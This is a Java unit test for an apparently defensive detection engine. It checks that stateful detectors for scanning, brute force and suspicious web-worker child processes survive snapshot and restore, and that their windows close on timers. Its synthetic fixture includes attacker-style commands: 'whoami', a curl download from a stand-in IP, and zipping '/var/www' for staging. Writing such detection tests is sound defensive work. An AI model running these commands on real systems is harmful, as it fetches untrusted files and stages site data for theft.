package dev.vigil.engine;

import static org.assertj.core.api.Assertions.assertThat;

import dev.vigil.catalogue.AlertCatalogue;
import dev.vigil.detect.Detection;
import dev.vigil.detect.Detector;
import dev.vigil.detect.KeyedDetector;
import dev.vigil.detect.behaviour.BehaviourDetectors;
import dev.vigil.event.Event;
import dev.vigil.event.HttpRequest;
import dev.vigil.event.Origin;
import dev.vigil.event.ProcessStart;
import dev.vigil.detect.process.ProcessRules;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import org.junit.jupiter.api.Test;

/** The keyed stage with the built-in stateful detectors: snapshots, restarts and bounds. */
class KeyedStageTest {
    static final long T0 = java.time.Instant.parse("2026-11-28T00:00:00Z").toEpochMilli();

    private static List<KeyedDetector> detectors() {
        AlertCatalogue c = AlertCatalogue.builtIn();
        List<KeyedDetector> out = new ArrayList<>(BehaviourDetectors.defaults(c));
        for (Detector d : ProcessRules.defaults(c, false)) {
            if (d instanceof KeyedDetector k) {
                out.add(k);
            }
        }
        return out;
    }

    /** Web traffic with scanner bursts, brute force and admin logins, and process starts under web workers. */
    static List<Event> traffic(long seed, int n) {
        Random r = new Random(seed);
        List<Event> out = new ArrayList<>();
        long t = T0;
        String[] hosts = {"shop.example", "blog.example"};
        for (int i = 1; i <= n; i++) {
            t += r.nextInt(40) + (i == n / 2 ? 25 * 3_600_000L : 0); // a day's pause half-way
            Origin o = new Origin("mixed", i, 0);
            int kind = r.nextInt(10);
            String host = hosts[r.nextInt(2)];
            if (kind < 6) {
                String ip = "198.51.100." + r.nextInt(12);
                boolean scanner = ip.endsWith(".3") || ip.endsWith(".7");
                String method = r.nextInt(8) == 0 ? "POST" : "GET";
                String path = switch (r.nextInt(6)) {
                    case 0 -> "/wp-login.php";
                    case 1 -> "/wp-admin/index.php";
                    case 2 -> "/CHANGELOG.txt";
                    default -> "/p" + r.nextInt(scanner ? 100_000 : 30);
                };
                int status = scanner ? 404 : path.equals("/wp-login.php") && method.equals("POST") ? (r.nextBoolean() ? 200 : 302)
                        : r.nextInt(20) == 0 ? 401 : 200;
                out.add(HttpRequest.builder(o).timeMillis(t).clientIp(ip).method(method).target(path).status(status)
                        .host(host).build());
            } else {
                long pid = 1000 + i;
                long ppid = r.nextInt(3) == 0 ? 100 : 1000 + Math.max(1, i - 1 - r.nextInt(5));
                String[] cmds = {"sh -c id", "convert /tmp/" + r.nextInt(50) + ".jpg /tmp/x.png", "sh -c /opt/app/deploy.sh",
                    "curl -o /tmp/x http://203.0.113.9/x", "whoami"};
                String cmd = i > n / 2 && r.nextInt(20) == 0 ? "zip -qr /tmp/site" + r.nextInt(9) + ".zip /var/www"
                        : cmds[r.nextInt(cmds.length)];
                String exe = cmd.startsWith("sh") ? "/bin/sh" : "/usr/bin/" + cmd.split(" ")[0];
                if (i < 20 && ppid == 100) {
                    out.add(ProcessStart.builder(o).timeMillis(t).host(host).pid(100).ppid(1).exe("/usr/sbin/php-fpm8.2")
                            .commandLine("php-fpm: pool www").user("www-data").build());
                } else {
                    out.add(ProcessStart.builder(o).timeMillis(t).host(host).pid(pid).ppid(ppid).exe(exe)
                            .commandLine(cmd).user("www-data").build());
                }
            }
        }
        return out;
    }

    private static List<String> run(KeyedStage stage, List<Event> events) {
        List<String> out = new ArrayList<>();
        for (Event e : events) {
            stage.process(e, d -> out.add(describe(d)));
        }
        return out;
    }

    private static String describe(Detection d) {
        return d.origin().line() + " " + d.ruleId() + " " + d.severity() + " " + d.decoded();
    }

    @Test
    void aStageRestoredFromASnapshotGoesOnAsIfNeverStopped() throws IOException {
        List<Event> events = traffic(7, 30_000);
        List<String> whole = run(new KeyedStage(detectors()), events);
        assertThat(whole).anyMatch(s -> s.contains("probing-burst"));
        assertThat(whole).anyMatch(s -> s.contains("process.lineage.first-seen-child"));

        for (int cut : new int[] {1, 4_999, 17_123, 29_999}) {
            KeyedStage first = new KeyedStage(detectors());
            List<String> got = new ArrayList<>(run(first, events.subList(0, cut)));
            ByteArrayOutputStream snap = new ByteArrayOutputStream();
            first.snapshot(snap);
            KeyedStage second = new KeyedStage(detectors());
            second.restore(new ByteArrayInputStream(snap.toByteArray()));
            got.addAll(run(second, events.subList(cut, events.size())));
            assertThat(got).as("cut at %d", cut).isEqualTo(whole);
            assertThat(second.failures()).isEmpty();
        }
    }

    @Test
    void closedWindowsAreClearedByTheirTimers() {
        KeyedStage stage = new KeyedStage(detectors());
        List<Event> events = traffic(3, 20_000);
        run(stage, events);
        // a quiet day later every window has closed: only learnt state (admin clients, trees) remains
        stage.advance(((HttpRequest) events.stream().filter(e -> e instanceof HttpRequest).reduce((a, b) -> b).orElseThrow())
                .timeMillis() + 86_400_000L, d -> { });
        for (var s : stage.stats()) {
            if (s.owner().contains("probing-burst") || s.owner().contains("brute-force")
                    || s.owner().contains("web-fingerprinting")) {
                assertThat(s.keys()).as(s.owner()).isZero();
                assertThat(s.timers()).as(s.owner()).isZero();
            }
        }
    }
}
